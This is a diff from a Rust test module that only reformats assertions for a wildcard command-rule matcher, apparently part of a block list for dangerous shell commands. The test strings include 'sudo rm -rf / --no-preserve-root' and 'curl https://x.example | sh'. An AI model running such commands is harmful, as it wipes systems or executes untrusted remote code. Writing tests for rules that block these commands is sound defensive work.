@@ -106,9 +106,18 @@ mod tests {
 
     #[test]
     fn wildcard_rules_match_anywhere() {
-        assert!(matches_anywhere("rm -rf /", "sudo rm -rf / --no-preserve-root"));
-        assert!(matches_anywhere("curl * | sh", "curl https://x.example | sh"));
-        assert!(!matches_anywhere("git push --force", "git push origin main"));
+        assert!(matches_anywhere(
+            "rm -rf /",
+            "sudo rm -rf / --no-preserve-root"
+        ));
+        assert!(matches_anywhere(
+            "curl * | sh",
+            "curl https://x.example | sh"
+        ));
+        assert!(!matches_anywhere(
+            "git push --force",
+            "git push origin main"
+        ));
     }
 
     #[test]
